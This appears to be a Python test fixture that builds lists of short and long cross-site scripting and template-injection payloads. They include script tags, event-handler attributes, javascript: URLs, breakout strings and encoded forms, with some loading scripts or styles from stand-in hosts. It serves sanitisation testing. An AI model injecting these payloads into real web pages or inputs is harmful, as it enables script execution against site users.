"""Texts that do harm wherever text is taken for markup, for an attribute, an address, a script or a template.

`SHORT` ones are short enough for a name (24 letters), `LONG` ones for a title (60) or for anything longer.
A payload that works calls `x()`.
"""

from __future__ import annotations

# Tags and handlers, as short as they come.
_TAGS = (
    "a",
    "b",
    "i",
    "p",
    "q",
    "s",
    "u",
    "h1",
    "li",
    "td",
    "br",
    "hr",
    "svg",
    "div",
    "pre",
    "del",
    "kbd",
    "tt",
)
_HANDLERS = ("oncopy", "oncut", "onclick", "onfocus", "oninput", "ondrag", "onblur", "onload")
_SHORT_ONES = (
    "<script>x()</script>",
    "<script>x()//",
    "<script src=//x.y>",
    "<SCRIPT>x()//",
    "<svg><script>x()//",
    "<img src onerror=x()>",
    "<img/src/onerror=x()>",
    "<image src onerror=x()>",
    "<video src onerror=x()>",
    "<audio src onerror=x()>",
    "<iframe onload=x()>",
    "<iframe src=//x.y>",
    "<iframe srcdoc=x>",
    "<body onload=x()>",
    "<style onload=x()>",
    "<svg onload=x()//",
    "<svg/onload=x()>",
    "<svg\tonload=x()>",
    "<math href=//x.y>",
    "<object data=//x.y>",
    "<embed src=//x.y>",
    "<base href=//x.y>",
    "<meta http-equiv=a>",
    "<link rel=x href=//y>",
    "<form action=//x.y>",
    "<input autofocus>x",
    "<button onclick=x()>",
    "<select onfocus=x()>",
    "<marquee onstart=x()>",
    "<details ontoggle=x()>",
    "<template><b>x",
    "<textarea>x",
    "<title>x",
    "<noscript><b>x",
    "<plaintext>x",
    "<xmp>x",
    "<frameset onload=x()>",
    "<dialog open onclose=x>",
    "<isindex action=//x.y>",
    "<bgsound src=//x.y>",
    "<applet code=x>",
    "<slot name=x onclick=x>",
    "x<!--><b onclick=x()>",
    "--><b onclick=x()>",
    "]]><b onclick=x()>",
    "*/</style><b onclick=x>",
    "</title><b onclick=x>",
    "</script><b onclick=x>",
    "</textarea><b onclick=x>",
    "</p><b onclick=x()>",
    "\"><b onclick=x()>",
    "'><b onclick=x()>",
    "\"><svg onload=x()>",
    "'><svg onload=x()>",
    "\" onfocus=x() a=\"",
    "' onfocus=x() a='",
    "\"onclick=x() ",
    "x onclick=x()",
    "javascript:x()",
    "JaVaScRiPt:x()",
    "javascript://%0ax()",
    "data:text/html,<b>x",
    "vbscript:x()",
    "//x.y/x",
    "\\u003cb onclick=x()>",
    "&lt;b onclick=x()&gt;",
    "&#60;b onclick=x()>",
    "%3Cb onclick=x()%3E",
    "{@html '<b>x</b>'}",
    "{{x()}}",
    "${x()}",
    "#{x()}",
    "<%= x() %>",
    "{x()}",
    "';x();'",
    "\";x();\"",
    "`;x();`",
    "');x();//",
    "\\';x();//",
    "constructor x",
    "__proto__ x",
)  # fmt: skip

SHORT = tuple(
    dict.fromkeys(
        [
            *_SHORT_ONES,
            *(
                f"<{tag} {_HANDLERS[(i + j) % len(_HANDLERS)]}=x()>"
                for i, tag in enumerate(_TAGS)
                for j in range(5)
            ),
        ]
    )
)

_ATTRIBUTES = (
    "onerror", "onload", "onclick", "onmouseover", "onfocus autofocus tabindex=0", "onanimationstart",
    "onpointerenter", "ontransitionend", "onbegin", "onwheel", "onauxclick", "oncontextmenu",
)  # fmt: skip
_CARRIERS = (
    "<img src=x {}=x()>",
    "<svg><animate {}=x() attributeName=x>",
    "<video><source {}=x()></video>",
    "<a href=javascript:x() {}=x()>go</a>",
    "<svg><use href=#x {}=x() /></svg>",
    "<math><mi//xlink:href='data:x' {}=x()>",
    "<div style=animation-name:x {}=x()>x</div>",
    "\"><img src=x {}=x() \"",
    "'><input {}=x() '",
    "<table background=javascript:x() {}=x()>",
    "<svg><foreignObject><b {}=x()>x</b></svg>",
    "</title><img src=x {}=x()>",
)  # fmt: skip
_LONG_ONES = (
    "<iframe srcdoc=\"<script>parent.x()</script>\">",
    "<script>fetch('/api/tables').then(x)</script>",
    "<svg><script href=data:,x() />",
    "<a href=\"javas\tcript:x()\">go</a>",
    "<form><button formaction=javascript:x()>go",
    "<object data=javascript:x()></object>",
    "<meta http-equiv=refresh content=0;url=javascript:x()>",
    "<link rel=stylesheet href=//example.invalid/x.css>",
    "<style>@import '//example.invalid/x.css';</style>",
    "<noscript><p title=\"</noscript><img src onerror=x()>\">",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=x()>",
    "<b id=location><b name=attributes><img src onerror=x()>",
)  # fmt: skip

LONG = tuple(
    dict.fromkeys([*_LONG_ONES, *(carrier.format(each) for carrier in _CARRIERS for each in _ATTRIBUTES)])
)
